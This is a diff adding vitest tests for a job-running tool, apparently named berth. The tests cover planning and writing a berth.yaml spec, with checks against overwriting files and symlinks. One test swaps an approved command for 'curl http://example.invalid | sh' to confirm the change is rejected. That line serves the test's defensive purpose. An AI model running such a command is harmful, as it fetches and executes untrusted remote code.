@@ -1,4 +1,4 @@
-import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { lacks } from '../../../needs.ts'
@@ -82,6 +82,51 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     )
     await under.until(() => Object.keys(under.account().instances).length === 0)
     await expect(under.run('dismissJob', { job: id })).resolves.toBeUndefined()
+  })
+
+  test('of a folder without a file runs what a form says, once it was agreed to, and leaves the folder without one', async () => {
+    const { under, folder, project } = await openProject({ 'data.txt': 'one\n' })
+    await expect(under.run('planProject', { project })).rejects.toMatchObject({
+      problem: { code: 'no_spec' },
+    })
+    const draft = { run: 'cp data.txt result.txt', results: 'result.txt', stop: { idle: '1h30m' } }
+    const { content, stops, known } = await under.run('planProject', { project, draft })
+    expect({ stops, known }).toEqual({ stops: [{ kind: 'idle', below: 5, seconds: 5400 }], known: false })
+    const asked = { project, content, stops, secretFiles: [] }
+    const other = { ...draft, run: 'curl http://example.invalid | sh' }
+    await expect(under.run('runProject', { ...asked, draft: other })).rejects.toMatchObject({
+      problem: { code: 'spec_changed' },
+    })
+    const id = await under.run('runProject', { ...asked, draft })
+    await under.until(() => jobOf(under, id)?.step === 'done')
+    expect(readFileSync(join(folder, 'result.txt'), 'utf8')).toBe('one\n')
+    expect(existsSync(join(folder, 'berth.yaml'))).toBe(false)
+    expect((await under.run('planProject', { project, draft })).known).toBe(true)
+  })
+
+  test('finds what a form says in its folder once that is saved, which is never over a file', async () => {
+    const { under, folder, project } = await openProject({})
+    const spec = { run: 'python train.py', stop: { idle: '30m' } }
+    await under.run('writeSpec', { project, spec })
+    expect(readFileSync(join(folder, 'berth.yaml'), 'utf8')).toBe(
+      'run: python train.py\nstop: { idle: 30m }\n',
+    )
+    expect(under.berth.state().projects[project]).toMatchObject({
+      spec: { run: 'python train.py', stop: { idle: 1800 } },
+    })
+    for (const there of ['run: mine\n', 'not even: [a spec']) {
+      write(folder, { 'berth.yaml': there })
+      await expect(under.run('writeSpec', { project, spec })).rejects.toMatchObject({
+        problem: { code: 'spec_exists' },
+      })
+      expect(readFileSync(join(folder, 'berth.yaml'), 'utf8')).toBe(there)
+    }
+    rmSync(join(folder, 'berth.yaml'))
+    symlinkSync(join(folder, 'elsewhere'), join(folder, 'berth.yaml'))
+    await expect(under.run('writeSpec', { project, spec })).rejects.toMatchObject({
+      problem: { code: 'spec_exists' },
+    })
+    expect(existsSync(join(folder, 'elsewhere'))).toBe(false)
   })
 
   test('that is outbid goes on elsewhere from its last checkpoint, as often as agreed, and leaves nothing behind', async () => {
